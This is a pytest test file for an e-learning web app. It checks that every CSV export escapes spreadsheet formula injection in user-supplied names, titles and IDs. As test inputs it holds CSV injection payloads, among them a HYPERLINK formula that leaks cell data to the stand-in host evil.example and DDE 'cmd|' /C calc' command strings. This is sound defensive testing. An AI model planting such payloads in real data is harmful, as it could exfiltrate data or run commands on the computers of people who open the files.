"""CSV formula injection: text that a learner, panellist, importer or author wrote reaches every
CSV elearn writes as text, never as a formula a spreadsheet runs (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlmodel import Session, select

from elearn.db import engine_of
from elearn.models import Course, Item, OrgUnit, User
from tests.conftest import ROLE_USERS, post
from tests.web.test_exams import right_answer, slots, start
from tests.web.test_standard_setting import run_study

COURSE = "sustainability-intro"
EXAM = "quick-certificate"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# A name may not hold a tab or a carriage return (they are refused as control characters), so
# those two leading characters are pinned where text comes from content or a file.
NAME_PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel open the file directly
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def root_unit(app: Flask) -> int:
    with Session(engine_of(app)) as s:
        found = s.exec(select(OrgUnit.id).where(OrgUnit.name == "Eksempel kommune")).one()
        assert found is not None
        return found


def set_own_name(client: FlaskClient, name: str) -> None:
    response = post(client, "/account", {"name": name, "locale": "en"})
    assert response.status_code == 302, response.get_data(as_text=True)


@pytest.mark.parametrize("payload", NAME_PAYLOADS)
def test_a_learners_name_reaches_the_managers_people_csv_as_text(
    app: Flask, learner: FlaskClient, as_role: Any, payload: str
) -> None:
    set_own_name(learner, payload)
    with Session(engine_of(app)) as s:
        stored = s.exec(select(User.name).where(User.email == ROLE_USERS["learner"])).one()
    assert stored == payload  # the name itself is kept as typed; only the export neutralises
    manager = as_role("manager")
    response = manager.get(f"/manage/units/{root_unit(app)}/course/{COURSE}?format=csv")
    rows = read_csv(response.data)
    lena = next(r for r in rows if r[1] == ROLE_USERS["learner"])
    assert lena[0] == "'" + payload


def test_a_name_that_opens_a_cell_after_a_semicolon_is_neutralised_there_too(
    app: Flask, learner: FlaskClient, as_role: Any
) -> None:
    set_own_name(learner, "Lena;=cmd|' /C calc'!A0")
    response = as_role("manager").get(f"/manage/units/{root_unit(app)}/course/{COURSE}?format=csv")
    lena = next(r for r in read_csv(response.data) if r[1] == ROLE_USERS["learner"])
    assert lena[0] == "Lena;'=cmd|' /C calc'!A0"
    # A Norwegian or Danish Excel splits at semicolons: no piece of the line starts a formula.
    line = next(x for x in response.data.decode("utf-8-sig").splitlines() if "Lena;" in x)
    assert not [piece for piece in line.split(";") if piece.startswith(("=", "+", "-", "@"))]


def test_unit_names_and_titles_in_the_unit_csvs_are_neutralised(app: Flask, as_role: Any) -> None:
    root = root_unit(app)
    with Session(engine_of(app)) as s:
        unit = s.exec(select(OrgUnit).where(OrgUnit.name == "Innkjøp")).one()
        unit.name = "@SUM(1+1)"
        course = s.get(Course, COURSE)
        assert course is not None
        course.spec = {**course.spec, "title": dict.fromkeys(course.spec["title"], "\t=1+1")}
        s.commit()
    manager = as_role("manager")
    units = read_csv(
        manager.get(f"/manage/units/{root}/course/{COURSE}?format=csv&table=units").data
    )
    assert [r[0] for r in units if "SUM" in r[0]] == ["Eksempel kommune/@SUM(1+1)"]  # not leading
    people = read_csv(manager.get(f"/manage/units/{root}/course/{COURSE}?format=csv").data)
    assert "Eksempel kommune/@SUM(1+1)" in [r[2] for r in people]
    with Session(engine_of(app)) as s:  # a unit at the top of the tree: its path leads the cell
        s.exec(select(OrgUnit).where(OrgUnit.id == root)).one().name = "-1+1"
        s.commit()
    units = read_csv(
        manager.get(f"/manage/units/{root}/course/{COURSE}?format=csv&table=units").data
    )
    assert "'-1+1/@SUM(1+1)" in [r[0] for r in units]
    summary = read_csv(manager.get(f"/manage/units/{root}?format=csv").data)
    course_row = next(r for r in summary if r[1] == COURSE)
    assert course_row[2] == "'\t=1+1"


def test_item_statistics_csv_neutralises_text_and_keeps_numbers(
    app: Flask, learner: FlaskClient, as_role: Any
) -> None:
    attempt_id = start(learner)
    for slot, spec in slots(app, attempt_id):
        post(learner, f"/attempts/{attempt_id}/{slot.number}", right_answer(slot, spec))
    post(learner, f"/attempts/{attempt_id}/submit")
    with Session(engine_of(app)) as s:
        for item in s.exec(select(Item)).all():
            item.topic = "=1+1"
        s.commit()
    certifier = as_role("certifier")
    response = certifier.get(f"/certify/exams/{EXAM}/statistics?attempts=all&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = read_csv(response.data)
    assert len(rows) > 1
    assert {r[1] for r in rows[1:]} == {"'=1+1"}
    for row in rows:
        assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))], row


def test_standard_setting_csv_neutralises_panellist_names_and_topics(
    app: Flask, as_role: Any
) -> None:
    certifier = as_role("certifier")
    one, two = as_role("panellist"), as_role("panellist2")
    set_own_name(one, "Per;=1+1")
    set_own_name(two, HYPERLINK)
    study_id, _ = run_study(app, certifier, (one, two))
    post(certifier, f"/certify/studies/{study_id}/close")
    rows = read_csv(certifier.get(f"/certify/studies/{study_id}/results.csv").data)
    assert "round 1: Per;'=1+1" in rows[0]
    assert f"round 1: {HYPERLINK}" in rows[0]  # does not lead its cell: a spreadsheet shows text
    assert "cut of Per;'=1+1" in [r[0] for r in rows if r]


def test_the_item_stats_command_neutralises_item_ids(app: Flask, tmp_path: Path) -> None:
    marks = tmp_path / "marks.csv"
    marks.write_text(
        "attempt,\"=cmd|' /C calc'!A0\",-x+1,@x,q4\na1,1,0.5,0,1\na2,1,1,1,0\na3,0,0,0,1\n",
        encoding="utf-8",
    )
    result = app.test_cli_runner().invoke(args=["report", "item-stats", "--marks", str(marks)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output, newline="")))
    assert [r[0] for r in rows[1:]] == ["'=cmd|' /C calc'!A0", "'-x+1", "'@x", "q4"]
    assert any(cell.startswith("-") for r in rows[1:] for cell in r[2:])  # numbers stay numbers
